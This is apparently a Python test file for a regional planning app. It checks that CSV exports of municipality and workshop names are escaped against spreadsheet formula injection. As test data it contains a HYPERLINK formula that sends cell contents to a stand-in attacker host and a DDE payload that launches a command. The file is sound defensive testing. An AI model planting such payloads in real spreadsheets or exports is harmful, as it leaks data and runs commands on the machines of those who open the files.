"""The region overview as CSV (page and API) never hands a spreadsheet a formula: a
municipality or workshop named like ``=HYPERLINK(…)`` arrives as text (OWASP CSV
injection: a leading apostrophe)."""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import login
from tests.visions.helpers import make_region
from visionswerk.spreadsheet import csv_bytes, safe_cell

LINK = '=HYPERLINK("https://boese.example/?d="&A1,"Details")'


def cells(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("path", ["/{slug}/uebersicht.csv", "/api/v1/{slug}/overview.csv"])
def test_formula_names_reach_the_spreadsheet_as_text(client, make, path: str) -> None:  # type: ignore[no-untyped-def]
    r = make_region(make)
    town = make.municipality(r.region, LINK)
    make.workshop(town, title="+49 Musterhausen 2035", participants=1)
    make.municipality(r.region, "@SUM(1+1)*cmd|' /C calc'!A0")
    login(client, r.coordinator)

    response = client.get(path.format(slug=r.region.slug))

    assert response.status_code == 200
    by_name = {row["Kommune"].lstrip("'"): row for row in cells(response.get_data())}
    assert by_name[LINK]["Kommune"] == "'" + LINK
    assert by_name[LINK]["Workshop"] == "'+49 Musterhausen 2035"
    assert by_name["@SUM(1+1)*cmd|' /C calc'!A0"]["Kommune"].startswith("'@")
    for row in by_name.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\0=1", "'\0=1"),
        ("Gemeinde = 1", "Gemeinde = 1"),
        ("", ""),
        (-3, -3),  # a number stays a number
        (12, 12),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_every_cell_of_a_table_is_made_safe() -> None:
    body = csv_bytes(["=Kopf"], [["=A1", 5]])
    assert body.decode("utf-8-sig").splitlines() == ["'=Kopf", "'=A1;5"]
